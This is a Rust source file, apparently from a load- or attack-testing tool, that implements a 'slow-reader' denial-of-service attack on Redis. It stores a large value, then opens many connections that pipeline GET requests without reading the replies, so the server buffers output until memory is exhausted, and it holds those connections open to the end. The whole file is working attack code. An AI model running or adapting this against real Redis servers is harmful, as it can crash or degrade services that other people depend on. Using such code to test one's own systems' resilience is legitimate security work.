//! `slow-reader`: SET a large value, then on K connections request it in pipelines and never
//! read, so the target buffers the replies (Redis's `client-output-buffer-limit normal` is
//! unlimited by default) until its send buffer to us is full and beyond.

use std::time::Duration;

use tokio::io::AsyncWriteExt;

use super::common::{Ctx, Line, command, read_line};
use super::{AttackError, SlowReaderSpec};

/// How long the SET that prepares the value may take.
const SETUP_TIMEOUT: Duration = Duration::from_secs(10);

/// Runs the readers numbered `range` (all of them, or this process's shard).
pub(crate) async fn run(
    ctx: &Ctx,
    spec: &SlowReaderSpec,
    range: std::ops::Range<u32>,
) -> Result<(), AttackError> {
    set_value(ctx, spec).await?;
    let get = command(&[b"GET", spec.key.as_bytes()]);
    let pipeline = get.repeat(spec.pipeline as usize);
    let mut readers = tokio::task::JoinSet::new();
    for i in range {
        let (ctx, spec, pipeline) = (ctx.clone(), spec.clone(), pipeline.clone());
        readers.spawn(async move { reader(&ctx, &spec, &pipeline, i.into()).await });
    }
    while readers.join_next().await.is_some() {}
    Ok(())
}

async fn set_value(ctx: &Ctx, spec: &SlowReaderSpec) -> Result<(), AttackError> {
    let setup =
        |what: String| AttackError::Setup(format!("SET {} on {}: {what}", spec.key, ctx.target));
    let mut stream = crate::connect::connect_from(ctx.source(0), ctx.target, ctx.connect_timeout)
        .await
        .map_err(|e| setup(e.to_string()))?;
    let value = vec![b'x'; spec.value_size];
    let set = command(&[b"SET", spec.key.as_bytes(), &value]);
    tokio::time::timeout(SETUP_TIMEOUT, stream.write_all(&set))
        .await
        .map_err(|_| setup("timed out".into()))?
        .map_err(|e| setup(e.to_string()))?;
    match read_line(&mut stream, SETUP_TIMEOUT).await {
        Line::Got(line) if line == b"+OK" => Ok(()),
        Line::Got(line) => Err(setup(String::from_utf8_lossy(&line).into_owned())),
        Line::Closed => Err(setup("connection closed".into())),
        Line::Silent => Err(setup("no reply".into())),
        Line::Failed(e) => Err(setup(e.to_string())),
    }
}

async fn reader(ctx: &Ctx, spec: &SlowReaderSpec, pipeline: &[u8], i: u64) {
    let Some(mut stream) = ctx.connect(i).await else {
        return;
    };
    ctx.counters.hold_started();
    let per_write = u64::from(spec.pipeline) * spec.value_size as u64;
    let mut requested = 0;
    let mut stalled = false;
    while requested + per_write <= spec.max_bytes_per_connection.max(per_write) {
        let write = tokio::time::timeout(spec.stall_after, stream.write_all(pipeline));
        let result = tokio::select! {
            _ = ctx.done.cancelled() => break,
            r = write => r,
        };
        match result {
            Ok(Ok(())) => {
                requested += per_write;
                ctx.counters.commands(spec.pipeline.into());
                ctx.counters.bytes_requested(per_write);
            }
            Ok(Err(e)) => {
                ctx.counters.io_error(&e);
                ctx.counters.closed_by_target();
                ctx.counters.hold_ended();
                return;
            }
            Err(_) => {
                // The send buffer stopped accepting: the target stopped reading us.
                stalled = true;
                ctx.counters.stall_started();
                break;
            }
        }
    }
    // Keep the connection (and whatever the target buffered for it) until the end.
    ctx.done.cancelled().await;
    if stalled {
        ctx.counters.stall_ended();
    }
    ctx.counters.held_until_the_end();
    ctx.counters.hold_ended();
}
